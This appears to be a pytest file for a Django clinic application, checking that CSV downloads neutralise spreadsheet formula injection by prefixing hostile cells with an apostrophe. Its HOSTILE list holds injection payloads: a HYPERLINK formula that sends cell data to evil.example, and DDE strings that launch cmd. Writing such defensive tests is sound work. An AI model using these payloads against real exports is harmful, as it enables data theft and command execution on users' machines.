"""CSV downloads never hand a spreadsheet a formula: text that starts like one is made plain."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from cc4c import csv_export
from tests.clinics.factories import ReferralFactory
from tests.factories import ChildFactory
from tests.security.templates import ROOT, SKIP_PARTS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Modules that write CSV that no person opens: synthetic import files, the rows an import hands
# PostgreSQL's COPY (which must stay exactly as uploaded), and the safe writer itself.
NOT_DOWNLOADS = {"cc4c/synthetic.py", "cc4c/imports/sql.py", "cc4c/csv_export.py"}


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_is_written_as_plain_text(text):
    assert csv_export.safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Amara Okafor", "O'Brien", "2024-05-01", "943 476 5919", "", "a=b", "Smith-Jones"]
)
def test_ordinary_text_is_left_alone(value):
    assert csv_export.safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, 0, 2.5, Decimal("-1.25"), None, True])
def test_numbers_stay_numbers(value):
    assert csv_export.safe_cell(value) == value


@pytest.mark.parametrize("text", ["-39.0", "-3", "0.5"])
def test_a_figure_written_as_text_stays_a_number(text):
    assert csv_export.safe_cell(text) == text


@given(st.text())
def test_no_cell_a_spreadsheet_reads_starts_with_a_formula_character(text):
    out = io.StringIO()
    csv_export.writer(out).writerow([text, "fixed"])
    cell = next(csv.reader(io.StringIO(out.getvalue(), newline="")))[0]
    assert not cell.startswith(csv_export.FORMULA_STARTS) or csv_export.PLAIN_NUMBER.fullmatch(cell)
    # Nothing is lost: the text is all there, after the apostrophe when one was added.
    assert cell in (text, "'" + text)


def test_every_csv_download_writes_through_the_one_safe_writer():
    offenders = []
    for path in sorted(Path(ROOT).rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if SKIP_PARTS & set(path.relative_to(ROOT).parts) or rel in NOT_DOWNLOADS:
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(rel)
    assert offenders == [], "write CSV downloads with cc4c.csv_export.writer"


@pytest.mark.django_db
def test_a_hostile_name_and_reason_download_as_text_in_the_waiting_list(practice, gp, client_for):
    child = ChildFactory(practice=practice, family_name=HOSTILE[0], given_name=HOSTILE[3])
    ReferralFactory(child=child, reason=HOSTILE[1])
    response = client_for(gp).get(reverse("clinics:waiting_list_csv"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 1
    assert rows[0]["family_name"] == "'" + HOSTILE[0]
    assert rows[0]["given_name"] == "'" + HOSTILE[3]
    assert rows[0]["reason"] == "'" + HOSTILE[1]
    assert rows[0]["nhs_number"] == child.nhs_number
